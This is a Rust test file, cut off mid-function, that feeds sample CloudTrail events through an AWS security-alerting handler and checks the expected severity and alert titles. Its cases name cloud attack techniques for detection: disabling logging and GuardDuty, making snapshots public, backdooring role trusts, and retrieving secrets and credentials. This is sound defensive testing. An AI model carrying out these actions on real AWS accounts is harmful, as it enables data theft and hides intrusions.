//! Every sample through parse, assess and render, with exact expectations.

mod common;

use common::judge;
use common::{all_samples, sample};
use handler::Selection;
use handler::Severity::{self, Critical, High, Low, Medium};
use handler::alert::Outcome;
use handler::event::Event;
use handler::monitors::{Failure, TAMPER};
use handler::render::render;

/// Judges sample `name` and checks monitor, severity, outcome and title.
fn expect(name: &str, monitor: &str, severity: Severity, outcome: Outcome, title: &str) {
    let raw = common::raw(&sample(name));
    let alert = judge(&raw);
    assert_eq!(
        (
            alert.monitor,
            alert.severity,
            alert.outcome,
            alert.title.as_str()
        ),
        (monitor, severity, outcome, title),
        "sample {name}"
    );
}

macro_rules! sample_cases {
    ($($test:ident: $name:literal => $monitor:literal, $severity:ident, $outcome:ident, $title:literal;)*) => {
        $(
            #[test]
            fn $test() {
                expect($name, $monitor, $severity, Outcome::$outcome, $title);
            }
        )*
    };
}

sample_cases! {
    tamper_rule_disabled: "tamper-rule-disabled"
        => "trailwatch-tamper", Critical, Succeeded, "mallory turned off EventBridge rule trailwatch-SecurityEventRule1-AbCdEf123456";
    tamper_rule_disabled_denied: "tamper-rule-disabled-denied"
        => "trailwatch-tamper", Medium, Failed, "mallory tried to turn off EventBridge rule trailwatch-SecurityEventRule1-AbCdEf123456 (AccessDeniedException)";
    tamper_others_rule_deleted: "tamper-others-rule-deleted"
        => "trailwatch-tamper", Medium, Succeeded, "mallory deleted EventBridge rule orders-nightly-export";
    tamper_alarm_actions_disabled: "tamper-alarm-actions-disabled"
        => "trailwatch-tamper", Critical, Succeeded, "mallory turned off the actions of CloudWatch alarms";
    tamper_handler_concurrency_zero: "tamper-handler-concurrency-zero"
        => "trailwatch-tamper", Critical, Succeeded, "mallory changed the concurrency of Lambda function trailwatch-Handler-AbCdEf123456";
    tamper_stack_redeployed: "tamper-stack-redeployed"
        => "trailwatch-tamper", Medium, Succeeded, "alice changed CloudFormation stack trailwatch";
    access_analyzer_deleted_denied: "access-analyzer-deleted-denied"
        => "access-analyzer-deleted", Medium, Failed, "mallory tried to delete IAM Access Analyzer analyzer ConsoleAnalyzer-0a1b2c3d (AccessDeniedException)";
    access_analyzer_deleted: "access-analyzer-deleted"
        => "access-analyzer-deleted", High, Succeeded, "mallory deleted IAM Access Analyzer analyzer ConsoleAnalyzer-0a1b2c3d";
    cloudtrail_change_create_trail: "cloudtrail-change-create-trail"
        => "cloudtrail-change", Low, Succeeded, "alice created CloudTrail trail org-audit";
    cloudtrail_change_delete_trail: "cloudtrail-change-delete-trail"
        => "cloudtrail-change", High, Succeeded, "mallory deleted CloudTrail trail management-events";
    cloudtrail_change_event_selectors_all_management_events: "cloudtrail-change-event-selectors-all-management-events"
        => "cloudtrail-change", Low, Succeeded, "alice changed the event selectors of CloudTrail trail management-events";
    cloudtrail_change_event_selectors_drop_management_events: "cloudtrail-change-event-selectors-drop-management-events"
        => "cloudtrail-change", High, Succeeded, "mallory weakened the event selectors of CloudTrail trail management-events";
    cloudtrail_change_stop_logging_denied: "cloudtrail-change-stop-logging-denied"
        => "cloudtrail-change", Medium, Failed, "mallory tried to turn off logging of CloudTrail trail management-events (AccessDenied)";
    cloudtrail_change_stop_logging: "cloudtrail-change-stop-logging"
        => "cloudtrail-change", High, Succeeded, "mallory turned off logging of CloudTrail trail arn:aws:cloudtrail:us-east-1:111122223333:trail/management-events";
    config_delete_delivery_channel: "config-delete-delivery-channel"
        => "config-change", High, Succeeded, "mallory deleted AWS Config delivery channel default";
    config_put_delivery_channel: "config-put-delivery-channel"
        => "config-change", Low, Succeeded, "alice changed AWS Config delivery channel default";
    config_stop_recorder_denied: "config-stop-recorder-denied"
        => "config-change", Medium, Failed, "mallory tried to turn off AWS Config recorder default (AccessDenied)";
    config_stop_recorder: "config-stop-recorder"
        => "config-change", High, Succeeded, "mallory turned off AWS Config recorder default";
    console_sign_in_failure_unknown_user: "console-sign-in-failure-unknown-user"
        => "console-sign-in-failure", Low, Failed, "HIDDEN_DUE_TO_SECURITY_REASONS failed to sign in to the console";
    console_sign_in_failure_wrong_password: "console-sign-in-failure-wrong-password"
        => "console-sign-in-failure", Low, Failed, "alice failed to sign in to the console";
    console_sign_in_without_mfa: "console-sign-in-without-mfa"
        => "console-sign-in-without-mfa", Medium, Succeeded, "alice signed in to the console without MFA";
    dns_query_logging_deleted_denied: "dns-query-logging-deleted-denied"
        => "dns-query-logging-deleted", Medium, Failed, "mallory tried to delete Route 53 Resolver query logging configuration rqlc-4473f20ca5540001 (AccessDenied)";
    dns_query_logging_deleted: "dns-query-logging-deleted"
        => "dns-query-logging-deleted", High, Succeeded, "mallory deleted Route 53 Resolver query logging configuration rqlc-4473f20ca5540001";
    ec2_ami_made_public: "ec2-ami-made-public"
        => "ec2-ami-shared", Critical, Succeeded, "mallory made AMI ami-0de1fbcab6ccb0001 public";
    ec2_ami_shared_denied: "ec2-ami-shared-denied"
        => "ec2-ami-shared", Medium, Failed, "mallory tried to share AMI ami-0de1fbcab6ccb0002 with another account (Client.UnauthorizedOperation)";
    ec2_ami_shared_with_another_account: "ec2-ami-shared-with-another-account"
        => "ec2-ami-shared", High, Succeeded, "mallory shared AMI ami-0de1fbcab6ccb0002 with another account";
    ec2_ami_sharing_removed: "ec2-ami-sharing-removed"
        => "ec2-ami-shared", Low, Succeeded, "alice changed the launch permissions of AMI ami-0de1fbcab6ccb0003";
    ec2_ingress_all_traffic_from_internet: "ec2-ingress-all-traffic-from-internet"
        => "ec2-security-group-ingress", Critical, Succeeded, "DeployRole/ci-pipeline opened sg-0a1b2c3d4e5f60002 to the internet";
    ec2_ingress_group_and_prefix_list: "ec2-ingress-group-and-prefix-list"
        => "ec2-security-group-ingress", Low, Succeeded, "alice added ingress rules to sg-0a1b2c3d4e5f60005";
    ec2_ingress_https_string_ports: "ec2-ingress-https-string-ports"
        => "ec2-security-group-ingress", High, Succeeded, "alice opened sg-0a1b2c3d4e5f60003 to the internet";
    ec2_ingress_legacy_ssh_from_internet: "ec2-ingress-legacy-ssh-from-internet"
        => "ec2-security-group-ingress", Critical, Succeeded, "mallory opened sg-0legacy1234567890 to the internet";
    ec2_ingress_mixed_public_https_private_postgres: "ec2-ingress-mixed-public-https-private-postgres"
        => "ec2-security-group-ingress", High, Succeeded, "alice opened sg-0a1b2c3d4e5f60004 to the internet";
    ec2_ingress_private_postgres: "ec2-ingress-private-postgres"
        => "ec2-security-group-ingress", Low, Succeeded, "alice added ingress rules to sg-0a1b2c3d4e5f60006";
    ec2_ingress_rdp_from_ipv6_internet: "ec2-ingress-rdp-from-ipv6-internet"
        => "ec2-security-group-ingress", Critical, Succeeded, "alice opened sg-0a1b2c3d4e5f60001 to the internet";
    ec2_ingress_ssh_denied: "ec2-ingress-ssh-denied"
        => "ec2-security-group-ingress", Medium, Failed, "mallory tried to open sg-0a1b2c3d4e5f60007 to the internet (Client.UnauthorizedOperation)";
    ec2_ingress_ssh_from_private_looking_halves: "ec2-ingress-ssh-from-private-looking-halves"
        => "ec2-security-group-ingress", Critical, Succeeded, "mallory opened sg-0a1b2c3d4e5f60021 to the internet";
    ec2_ingress_ssh_from_two_halves_of_the_internet: "ec2-ingress-ssh-from-two-halves-of-the-internet"
        => "ec2-security-group-ingress", Critical, Succeeded, "mallory opened sg-0a1b2c3d4e5f60020 to the internet";
    ec2_instance_connect_denied: "ec2-instance-connect-denied"
        => "ec2-instance-connect", Medium, Failed, "mallory tried to send an SSH key to instance i-0fdb357cb7e990001 (AccessDenied)";
    ec2_instance_connect_serial_console_key: "ec2-instance-connect-serial-console-key"
        => "ec2-instance-connect", Medium, Succeeded, "mallory sent an SSH key to the serial console of instance i-0efcb4e480cab0001";
    ec2_instance_connect_ssh_key: "ec2-instance-connect-ssh-key"
        => "ec2-instance-connect", Medium, Succeeded, "mallory sent an SSH key to instance i-0fdb357cb7e990001";
    ec2_network_acl_change_denied: "ec2-network-acl-change-denied"
        => "ec2-network-acl-change", Low, Failed, "mallory tried to delete network ACL acl-0a1b2c3d4e5f60001 (Client.UnauthorizedOperation)";
    ec2_network_acl_change_entry: "ec2-network-acl-change-entry"
        => "ec2-network-acl-change", Low, Succeeded, "alice added an entry to network ACL acl-0a1b2c3d4e5f60001";
    ec2_network_gateway_change_attach_internet_gateway: "ec2-network-gateway-change-attach-internet-gateway"
        => "ec2-network-gateway-change", Low, Succeeded, "alice attached internet gateway igw-0a1b2c3d4e5f60001";
    ec2_network_gateway_change_denied: "ec2-network-gateway-change-denied"
        => "ec2-network-gateway-change", Low, Failed, "mallory tried to create a customer gateway for 192.0.2.44 (Client.UnauthorizedOperation)";
    ec2_password_data_denied: "ec2-password-data-denied"
        => "ec2-password-data", Medium, Failed, "mallory tried to retrieve the Windows password data of instance i-0c2ef1a3b4d5e0001 (Client.UnauthorizedOperation)";
    ec2_password_data: "ec2-password-data"
        => "ec2-password-data", Medium, Succeeded, "mallory retrieved the Windows password data of instance i-0c2ef1a3b4d5e0001";
    ec2_route_table_change_default_route: "ec2-route-table-change-default-route"
        => "ec2-route-table-change", Low, Succeeded, "alice added a route to route table rtb-0a1b2c3d4e5f60001";
    ec2_route_table_change_denied: "ec2-route-table-change-denied"
        => "ec2-route-table-change", Low, Failed, "mallory tried to change a route of route table rtb-0a1b2c3d4e5f60001 (Client.UnauthorizedOperation)";
    ec2_security_group_change_create: "ec2-security-group-change-create"
        => "ec2-security-group-change", Low, Succeeded, "alice created security group web-tier";
    ec2_security_group_change_egress_denied: "ec2-security-group-change-egress-denied"
        => "ec2-security-group-change", Low, Failed, "mallory tried to add egress rules to security group sg-0a1b2c3d4e5f60010 (Client.UnauthorizedOperation)";
    ec2_security_group_change_revoke_ingress: "ec2-security-group-change-revoke-ingress"
        => "ec2-security-group-change", Low, Succeeded, "alice removed ingress rules from security group sg-0a1b2c3d4e5f60001";
    ec2_serial_console_enabled_denied: "ec2-serial-console-enabled-denied"
        => "ec2-serial-console-enabled", Medium, Failed, "mallory tried to enable EC2 serial console access (Client.UnauthorizedOperation)";
    ec2_serial_console_enabled: "ec2-serial-console-enabled"
        => "ec2-serial-console-enabled", Medium, Succeeded, "mallory enabled EC2 serial console access";
    ec2_snapshot_made_public: "ec2-snapshot-made-public"
        => "ec2-snapshot-shared", Critical, Succeeded, "mallory made EBS snapshot snap-041993b54a9b30002 public";
    ec2_snapshot_shared_denied: "ec2-snapshot-shared-denied"
        => "ec2-snapshot-shared", Medium, Failed, "mallory tried to share EBS snapshot snap-041993b54a9b30001 with another account (Client.UnauthorizedOperation)";
    ec2_snapshot_shared_with_another_account: "ec2-snapshot-shared-with-another-account"
        => "ec2-snapshot-shared", High, Succeeded, "mallory shared EBS snapshot snap-041993b54a9b30001 with another account";
    ec2_user_data_modified_denied: "ec2-user-data-modified-denied"
        => "ec2-user-data-modified", Medium, Failed, "mallory tried to change the user data of instance i-0ddd6c7b0e18f0001 (Client.UnauthorizedOperation)";
    ec2_user_data_modified: "ec2-user-data-modified"
        => "ec2-user-data-modified", Medium, Succeeded, "mallory changed the user data of instance i-0ddd6c7b0e18f0001";
    ec2_user_data_read_denied: "ec2-user-data-read-denied"
        => "ec2-user-data-read", Low, Failed, "mallory tried to retrieve the user data of instance i-0ddd6c7b0e18f0001 (Client.UnauthorizedOperation)";
    ec2_user_data_read: "ec2-user-data-read"
        => "ec2-user-data-read", Low, Succeeded, "mallory retrieved the user data of instance i-0ddd6c7b0e18f0001";
    ec2_vpc_change_denied: "ec2-vpc-change-denied"
        => "ec2-vpc-change", Low, Failed, "mallory tried to delete VPC vpc-0a1b2c3d4e5f60002 (Client.UnauthorizedOperation)";
    ec2_vpc_change_peering_to_another_account: "ec2-vpc-change-peering-to-another-account"
        => "ec2-vpc-change", Low, Succeeded, "alice created a peering connection from vpc-0a1b2c3d4e5f60002";
    guardduty_detector_deleted_denied: "guardduty-detector-deleted-denied"
        => "guardduty-disabled", Medium, Failed, "mallory tried to delete GuardDuty detector 12abc34d567e8fa901bc2d34e5670001 (AccessDeniedException)";
    guardduty_detector_deleted: "guardduty-detector-deleted"
        => "guardduty-disabled", High, Succeeded, "mallory deleted GuardDuty detector 12abc34d567e8fa901bc2d34e5670001";
    guardduty_detector_frequency_changed: "guardduty-detector-frequency-changed"
        => "guardduty-disabled", Low, Succeeded, "alice changed GuardDuty detector 12abc34d567e8fa901bc2d34e5670001";
    guardduty_detector_suspended: "guardduty-detector-suspended"
        => "guardduty-disabled", High, Succeeded, "mallory turned off GuardDuty detector 12abc34d567e8fa901bc2d34e5670001";
    health_handler_errors_alarm: "health-handler-errors-alarm"
        => "trailwatch-health", High, Succeeded, "ALARM: trailwatch-health-handler-errors";
    health_handler_errors_ok: "health-handler-errors-ok"
        => "trailwatch-health", Low, Succeeded, "OK again: trailwatch-health-handler-errors";
    iam_create_access_key_denied: "iam-create-access-key-denied"
        => "iam-create-access-key", Medium, Failed, "mallory tried to create an access key for alice (AccessDenied)";
    iam_create_access_key_for_other_user: "iam-create-access-key-for-other-user"
        => "iam-create-access-key", High, Succeeded, "mallory created an access key for alice";
    iam_create_access_key_old_event_version: "iam-create-access-key-old-event-version"
        => "iam-create-access-key", High, Succeeded, "DeployRole/legacy created an access key for deploy-user";
    iam_create_access_key_root_self: "iam-create-access-key-root-self"
        => "iam-create-access-key", Critical, Succeeded, "root created an access key for the root user";
    iam_create_access_key_self: "iam-create-access-key-self"
        => "iam-create-access-key", Medium, Succeeded, "alice created an access key for alice (self)";
    iam_create_user_by_admin: "iam-create-user-by-admin"
        => "iam-create-user", Medium, Succeeded, "alice created IAM user build-bot";
    iam_create_user_by_cloudformation_role: "iam-create-user-by-cloudformation-role"
        => "iam-create-user", Medium, Succeeded, "DeployRole/ci-pipeline created IAM user svc-reporting";
    iam_create_user_by_root: "iam-create-user-by-root"
        => "iam-create-user", Critical, Succeeded, "root created IAM user backdoor";
    iam_create_user_denied: "iam-create-user-denied"
        => "iam-create-user", Medium, Failed, "mallory tried to create IAM user shadow-admin (AccessDenied)";
    iam_group_membership_admins: "iam-group-membership-admins"
        => "iam-group-membership", High, Succeeded, "mallory added mallory to IAM group Admins";
    iam_group_membership_denied: "iam-group-membership-denied"
        => "iam-group-membership", Medium, Failed, "mallory tried to add mallory to IAM group Admins (AccessDenied)";
    iam_group_membership_developers: "iam-group-membership-developers"
        => "iam-group-membership", Low, Succeeded, "alice added bob to IAM group Developers";
    iam_identity_provider_denied: "iam-identity-provider-denied"
        => "iam-identity-provider", Medium, Failed, "mallory tried to create SAML identity provider attacker-idp (AccessDenied)";
    iam_identity_provider_oidc_created: "iam-identity-provider-oidc-created"
        => "iam-identity-provider", Medium, Succeeded, "DeployRole/ci-pipeline created OIDC identity provider https://token.actions.githubusercontent.com";
    iam_identity_provider_saml_updated: "iam-identity-provider-saml-updated"
        => "iam-identity-provider", Medium, Succeeded, "mallory changed SAML identity provider arn:aws:iam::111122223333:saml-provider/Okta";
    iam_login_profile_denied: "iam-login-profile-denied"
        => "iam-login-profile", Medium, Failed, "mallory tried to create a console password for bob (AccessDenied)";
    iam_login_profile_for_another_user: "iam-login-profile-for-another-user"
        => "iam-login-profile", High, Succeeded, "mallory created a console password for bob";
    iam_login_profile_own_password: "iam-login-profile-own-password"
        => "iam-login-profile", Low, Succeeded, "alice changed the console password of alice";
    iam_login_profile_update_another_user: "iam-login-profile-update-another-user"
        => "iam-login-profile", High, Succeeded, "mallory changed the console password of alice";
    iam_mfa_deactivated_denied: "iam-mfa-deactivated-denied"
        => "iam-mfa-removed", Medium, Failed, "mallory tried to turn off an MFA device of alice (AccessDenied)";
    iam_mfa_deactivated: "iam-mfa-deactivated"
        => "iam-mfa-removed", Medium, Succeeded, "mallory turned off an MFA device of alice";
    iam_password_policy_deleted: "iam-password-policy-deleted"
        => "iam-password-policy", Medium, Succeeded, "mallory deleted the account password policy";
    iam_password_policy_denied: "iam-password-policy-denied"
        => "iam-password-policy", Medium, Failed, "mallory tried to delete the account password policy (AccessDenied)";
    iam_password_policy_updated: "iam-password-policy-updated"
        => "iam-password-policy", Low, Succeeded, "alice changed the account password policy";
    iam_policy_change_admin_default_version: "iam-policy-change-admin-default-version"
        => "iam-policy-change", High, Succeeded, "mallory gave every principal IAM policy arn:aws:iam::111122223333:policy/DeveloperBoundary is attached to administrator permissions";
    iam_policy_change_attach_administrator_denied: "iam-policy-change-attach-administrator-denied"
        => "iam-policy-change", Medium, Failed, "mallory tried to give mallory administrator permissions (AccessDenied)";
    iam_policy_change_attach_administrator_to_user: "iam-policy-change-attach-administrator-to-user"
        => "iam-policy-change", High, Succeeded, "mallory gave malicious-iam-user administrator permissions";
    iam_policy_change_attach_read_only_to_role: "iam-policy-change-attach-read-only-to-role"
        => "iam-policy-change", Medium, Succeeded, "alice attached a managed policy to IAM role ReportingRole";
    iam_policy_change_detach_from_user: "iam-policy-change-detach-from-user"
        => "iam-policy-change", Low, Succeeded, "alice removed a managed policy from IAM user bob";
    iam_policy_change_inline_admin_policy: "iam-policy-change-inline-admin-policy"
        => "iam-policy-change", High, Succeeded, "DeployRole/ci-pipeline gave LambdaWorker administrator permissions";
    iam_role_trust_backdoor_another_account: "iam-role-trust-backdoor-another-account"
        => "iam-role-trust", High, Succeeded, "mallory shared IAM role OpsRole with another account";
    iam_role_trust_backdoor_denied: "iam-role-trust-backdoor-denied"
        => "iam-role-trust", Medium, Failed, "mallory tried to share IAM role OpsRole with another account (AccessDenied)";
    iam_role_trust_create_backdoor_role: "iam-role-trust-create-backdoor-role"
        => "iam-role-trust", High, Succeeded, "mallory shared IAM role support-access with another account";
    iam_role_trust_create_service_role: "iam-role-trust-create-service-role"
        => "iam-role-trust", Low, Succeeded, "DeployRole/ci-pipeline created IAM role web-instance";
    iam_role_trust_open_to_everyone: "iam-role-trust-open-to-everyone"
        => "iam-role-trust", Critical, Succeeded, "mallory made IAM role OpsRole public";
    kms_key_disable: "kms-key-disable"
        => "kms-key-disabled-or-deleted", Medium, Succeeded, "alice turned off KMS key 1234abcd-12ab-34cd-56ef-1234567890ab";
    kms_key_schedule_deletion_denied: "kms-key-schedule-deletion-denied"
        => "kms-key-disabled-or-deleted", Medium, Failed, "mallory tried to schedule KMS key arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab for deletion (AccessDenied)";
    kms_key_schedule_deletion: "kms-key-schedule-deletion"
        => "kms-key-disabled-or-deleted", High, Succeeded, "mallory scheduled KMS key arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab for deletion";
    lambda_code_updated_denied: "lambda-code-updated-denied"
        => "lambda-code-updated", Low, Failed, "mallory tried to change the code of Lambda function invoice-renderer (AccessDeniedException)";
    lambda_code_updated: "lambda-code-updated"
        => "lambda-code-updated", Low, Succeeded, "mallory changed the code of Lambda function arn:aws:lambda:us-east-1:111122223333:function:invoice-renderer";
    lambda_configuration_memory_only: "lambda-configuration-memory-only"
        => "lambda-layer-added", Low, Succeeded, "DeployRole/ci-pipeline changed the configuration of Lambda function invoice-renderer";
    lambda_layer_added_denied: "lambda-layer-added-denied"
        => "lambda-layer-added", Medium, Failed, "mallory tried to add layers to Lambda function invoice-renderer (AccessDeniedException)";
    lambda_layer_from_another_account: "lambda-layer-from-another-account"
        => "lambda-layer-added", High, Succeeded, "mallory added layers to Lambda function arn:aws:lambda:us-east-1:111122223333:function:invoice-renderer";
    lambda_permission_another_account: "lambda-permission-another-account"
        => "lambda-permission-added", High, Succeeded, "mallory shared Lambda function invoice-renderer with another account";
    lambda_permission_denied: "lambda-permission-denied"
        => "lambda-permission-added", Medium, Failed, "mallory tried to make Lambda function invoice-renderer public (AccessDeniedException)";
    lambda_permission_public: "lambda-permission-public"
        => "lambda-permission-added", Critical, Succeeded, "mallory made Lambda function invoice-renderer public";
    lambda_permission_service_with_source: "lambda-permission-service-with-source"
        => "lambda-permission-added", Low, Succeeded, "DeployRole/ci-pipeline changed the resource policy of Lambda function thumbnailer";
    malformed_ec2_ingress_permissions_not_an_object: "malformed-ec2-ingress-permissions-not-an-object"
        => "ec2-security-group-ingress", High, Unknown, "Unrecognised security event, review: AuthorizeSecurityGroupIngress";
    malformed_iam_user_identity_is_a_string: "malformed-iam-user-identity-is-a-string"
        => "iam-create-user", High, Unknown, "Unrecognised security event, review: CreateUser";
    organizations_leave_denied: "organizations-leave-denied"
        => "organizations-leave", Medium, Failed, "mallory tried to leave the AWS organization (AccessDeniedException)";
    organizations_leave: "organizations-leave"
        => "organizations-leave", Critical, Succeeded, "DeployRole/ci-pipeline left the AWS organization";
    rds_cluster_snapshot_made_public: "rds-cluster-snapshot-made-public"
        => "rds-snapshot-shared", Critical, Succeeded, "mallory made RDS cluster snapshot orders-final public";
    rds_snapshot_shared_denied: "rds-snapshot-shared-denied"
        => "rds-snapshot-shared", Medium, Failed, "mallory tried to share RDS snapshot exfiltration with another account (AccessDenied)";
    rds_snapshot_shared_with_another_account: "rds-snapshot-shared-with-another-account"
        => "rds-snapshot-shared", High, Succeeded, "mallory shared RDS snapshot exfiltration with another account";
    rolesanywhere_trust_anchor_created: "rolesanywhere-trust-anchor-created"
        => "rolesanywhere-trust-anchor", High, Succeeded, "mallory created IAM Roles Anywhere trust anchor malicious-trust-anchor";
    rolesanywhere_trust_anchor_denied: "rolesanywhere-trust-anchor-denied"
        => "rolesanywhere-trust-anchor", Medium, Failed, "mallory tried to create IAM Roles Anywhere trust anchor malicious-trust-anchor (AccessDeniedException)";
    root_account_usage_api_call_with_mfa: "root-account-usage-api-call-with-mfa"
        => "root-account-usage", High, Succeeded, "root called s3:PutBucketTagging";
    root_account_usage_api_call_without_mfa: "root-account-usage-api-call-without-mfa"
        => "root-account-usage", Critical, Succeeded, "root called ec2:CreateKeyPair";
    root_account_usage_console_sign_in_failed: "root-account-usage-console-sign-in-failed"
        => "console-sign-in-failure", Medium, Failed, "root failed to sign in to the console";
    root_account_usage_console_sign_in_with_mfa: "root-account-usage-console-sign-in-with-mfa"
        => "root-account-usage", High, Succeeded, "root signed in to the console with MFA";
    root_account_usage_console_sign_in_without_mfa: "root-account-usage-console-sign-in-without-mfa"
        => "root-account-usage", Critical, Succeeded, "root signed in to the console without MFA";
    s3_bucket_acl_all_users: "s3-bucket-acl-all-users"
        => "s3-bucket-acl", Critical, Succeeded, "mallory made S3 bucket acme-public-share public";
    s3_bucket_acl_canned_authenticated_read: "s3-bucket-acl-canned-authenticated-read"
        => "s3-bucket-acl", Critical, Succeeded, "alice made S3 bucket acme-exports public";
    s3_bucket_acl_denied: "s3-bucket-acl-denied"
        => "s3-bucket-acl", Medium, Failed, "mallory tried to make S3 bucket acme-payroll public (AccessDenied)";
    s3_bucket_acl_private: "s3-bucket-acl-private"
        => "s3-bucket-acl", Low, Succeeded, "alice changed the ACL of S3 bucket acme-internal";
    s3_bucket_delete_policy: "s3-bucket-delete-policy"
        => "s3-bucket-change", Low, Succeeded, "alice deleted the policy of S3 bucket acme-web-assets";
    s3_bucket_lifecycle_denied: "s3-bucket-lifecycle-denied"
        => "s3-bucket-change", Low, Failed, "mallory tried to change the lifecycle rules of S3 bucket acme-cloudtrail-logs (AccessDenied)";
    s3_bucket_lifecycle_on_log_bucket: "s3-bucket-lifecycle-on-log-bucket"
        => "s3-bucket-change", Low, Succeeded, "mallory changed the lifecycle rules of S3 bucket acme-cloudtrail-logs";
    s3_logging_turned_off: "s3-logging-turned-off"
        => "s3-logging-versioning", Medium, Succeeded, "mallory turned off access logging of S3 bucket acme-web-assets";
    s3_public_access_block_account_deleted: "s3-public-access-block-account-deleted"
        => "s3-public-access-block", High, Succeeded, "mallory removed the account's S3 public access block";
    s3_public_access_block_all_on: "s3-public-access-block-all-on"
        => "s3-public-access-block", Low, Succeeded, "alice changed the public access block of S3 bucket acme-web-assets";
    s3_public_access_block_denied: "s3-public-access-block-denied"
        => "s3-public-access-block", Medium, Failed, "mallory tried to remove the public access block of S3 bucket acme-payroll (AccessDenied)";
    s3_public_access_block_turned_off: "s3-public-access-block-turned-off"
        => "s3-public-access-block", High, Succeeded, "mallory weakened the public access block of S3 bucket acme-web-assets";
    s3_put_bucket_policy_cross_account: "s3-put-bucket-policy-cross-account"
        => "s3-bucket-policy", High, Succeeded, "alice shared S3 bucket acme-reports with another account";
    s3_put_bucket_policy_deny_insecure_transport: "s3-put-bucket-policy-deny-insecure-transport"
        => "s3-bucket-policy", Low, Succeeded, "alice changed the policy of S3 bucket acme-logs";
    s3_put_bucket_policy_not_ip_address: "s3-put-bucket-policy-not-ip-address"
        => "s3-bucket-policy", Critical, Succeeded, "alice made S3 bucket acme-partner-drop public";
    s3_put_bucket_policy_org_id_if_exists: "s3-put-bucket-policy-org-id-if-exists"
        => "s3-bucket-policy", Critical, Succeeded, "alice made S3 bucket acme-shared-data public";
    s3_put_bucket_policy_principal_arn_any_account: "s3-put-bucket-policy-principal-arn-any-account"
        => "s3-bucket-policy", Critical, Succeeded, "alice made S3 bucket acme-ml-models public";
    s3_put_bucket_policy_public_aws_star_list: "s3-put-bucket-policy-public-aws-star-list"
        => "s3-bucket-policy", Critical, Succeeded, "DeployRole/ci-pipeline made S3 bucket acme-exports public";
    s3_put_bucket_policy_public_denied: "s3-put-bucket-policy-public-denied"
        => "s3-bucket-policy", Medium, Failed, "mallory tried to make S3 bucket acme-payroll public (AccessDenied)";
    s3_put_bucket_policy_public_read: "s3-put-bucket-policy-public-read"
        => "s3-bucket-policy", Critical, Succeeded, "alice made S3 bucket acme-web-assets public";
    s3_put_bucket_policy_source_ip_covering_the_internet: "s3-put-bucket-policy-source-ip-covering-the-internet"
        => "s3-bucket-policy", Critical, Succeeded, "alice made S3 bucket acme-downloads public";
    s3_put_bucket_policy_star_restricted_to_vpce: "s3-put-bucket-policy-star-restricted-to-vpce"
        => "s3-bucket-policy", Low, Succeeded, "alice changed the policy of S3 bucket acme-internal";
    s3_versioning_enabled: "s3-versioning-enabled"
        => "s3-logging-versioning", Low, Succeeded, "alice changed versioning of S3 bucket acme-backups";
    s3_versioning_suspended_denied: "s3-versioning-suspended-denied"
        => "s3-logging-versioning", Medium, Failed, "mallory tried to turn off versioning of S3 bucket acme-backups (AccessDenied)";
    s3_versioning_suspended: "s3-versioning-suspended"
        => "s3-logging-versioning", Medium, Succeeded, "mallory turned off versioning of S3 bucket acme-backups";
    secrets_retrieved_denied: "secrets-retrieved-denied"
        => "secrets-retrieved", Low, Failed, "mallory tried to retrieve secret prod/orders/db-password (AccessDenied)";
    secrets_retrieved_in_bulk: "secrets-retrieved-in-bulk"
        => "secrets-retrieved", Medium, Succeeded, "mallory retrieved secrets in bulk";
    secrets_retrieved: "secrets-retrieved"
        => "secrets-retrieved", Low, Succeeded, "mallory retrieved secret prod/orders/db-password";
    securityhub_disabled_denied: "securityhub-disabled-denied"
        => "securityhub-disabled", Medium, Failed, "mallory tried to turn off Security Hub (AccessDeniedException)";
    securityhub_disabled: "securityhub-disabled"
        => "securityhub-disabled", High, Succeeded, "mallory turned off Security Hub";
    ssm_parameters_decrypted_denied: "ssm-parameters-decrypted-denied"
        => "ssm-parameters-decrypted", Low, Failed, "mallory tried to retrieve decrypted SSM parameter /credentials/app/db (AccessDeniedException)";
    ssm_parameters_decrypted: "ssm-parameters-decrypted"
        => "ssm-parameters-decrypted", Low, Succeeded, "mallory retrieved decrypted SSM parameters";
    ssm_send_command_denied: "ssm-send-command-denied"
        => "ssm-send-command", Medium, Failed, "mallory tried to send SSM command AWS-RunShellScript (AccessDeniedException)";
    ssm_send_command: "ssm-send-command"
        => "ssm-send-command", Medium, Succeeded, "mallory sent SSM command AWS-RunShellScript";
    ssm_start_session_denied: "ssm-start-session-denied"
        => "ssm-start-session", Medium, Failed, "mallory tried to start an SSM session on i-0ea1d1296c1de0001 (AccessDeniedException)";
    ssm_start_session: "ssm-start-session"
        => "ssm-start-session", Medium, Succeeded, "mallory started an SSM session on i-0ea1d1296c1de0001";
    sts_federation_token_denied: "sts-federation-token-denied"
        => "sts-federation-token", Medium, Failed, "mallory tried to create federation token backup (AccessDenied)";
    sts_federation_token: "sts-federation-token"
        => "sts-federation-token", Medium, Succeeded, "mallory created federation token backup";
    unauthorized_api_calls_ec2_run_instances: "unauthorized-api-calls-ec2-run-instances"
        => "unauthorized-api-calls", Low, Failed, "mallory was denied ec2:RunInstances (Client.UnauthorizedOperation)";
    unauthorized_api_calls_s3_access_denied: "unauthorized-api-calls-s3-access-denied"
        => "unauthorized-api-calls", Low, Failed, "mallory was denied s3:PutBucketTagging (AccessDenied)";
    vpc_flow_logs_deleted_denied: "vpc-flow-logs-deleted-denied"
        => "vpc-flow-logs-deleted", Medium, Failed, "mallory tried to delete VPC flow logs fl-0e17aa62a21d40001 (Client.UnauthorizedOperation)";
    vpc_flow_logs_deleted: "vpc-flow-logs-deleted"
        => "vpc-flow-logs-deleted", High, Succeeded, "mallory deleted VPC flow logs fl-0e17aa62a21d40001";
}

#[test]
fn an_event_no_enabled_monitor_selects_fails_open_as_review() {
    let raw = common::raw(&sample("negative-iam-get-user"));
    let alert = judge(&raw);
    assert_eq!(
        (alert.monitor, alert.severity, alert.title.as_str()),
        (
            "unrecognised",
            High,
            "Unrecognised security event, review: GetUser"
        )
    );
}

/// Negative samples the tamper monitor selects (calls it watches on
/// trailwatch's own resources) and dismisses (on someone else's).
const DISMISSED_NEGATIVES: &[&str] = &["negative-lambda-remove-permission"];

#[test]
fn no_monitor_selects_a_negative_sample_but_the_tamper_monitor_dismissing_it() {
    let every = common::every_monitor();
    for (name, raw) in all_samples()
        .into_iter()
        .filter(|(n, _)| n.starts_with("negative-"))
    {
        let raw = common::raw(&raw);
        let event = Event::parse(&raw).expect("negative samples are well-formed");
        let selecting: Vec<&str> = every
            .selection
            .matching(&event)
            .iter()
            .map(|m| m.id)
